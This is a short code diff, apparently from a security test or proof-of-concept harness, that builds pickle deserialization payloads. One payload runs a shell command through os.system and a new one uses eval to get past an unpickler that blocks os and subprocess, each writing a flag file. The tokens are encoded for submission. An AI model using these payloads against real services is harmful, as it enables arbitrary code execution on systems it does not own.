@@ -13,8 +13,13 @@ class Payload:
         return (os.system, (f"touch {flag}",))
 
 
-raw = pickle.dumps(Payload())
-tokens = {"urlsafe-b64": base64.urlsafe_b64encode(raw).decode(), "b64": base64.b64encode(raw).decode(), "hex": raw.hex()}
+class EvalPayload:  # for an Unpickler that forbids os/posix/subprocess but allows builtins
+    def __reduce__(self):
+        return (eval, (f"open({flag!r}, 'w').write('x')",))
+
+
+raw, raw_eval = pickle.dumps(Payload()), pickle.dumps(EvalPayload())
+tokens = {"urlsafe-b64": base64.urlsafe_b64encode(raw).decode(), "b64": base64.b64encode(raw).decode(), "hex": raw.hex(), "eval-urlsafe-b64": base64.urlsafe_b64encode(raw_eval).decode()}
 
 
 def attempt(token):
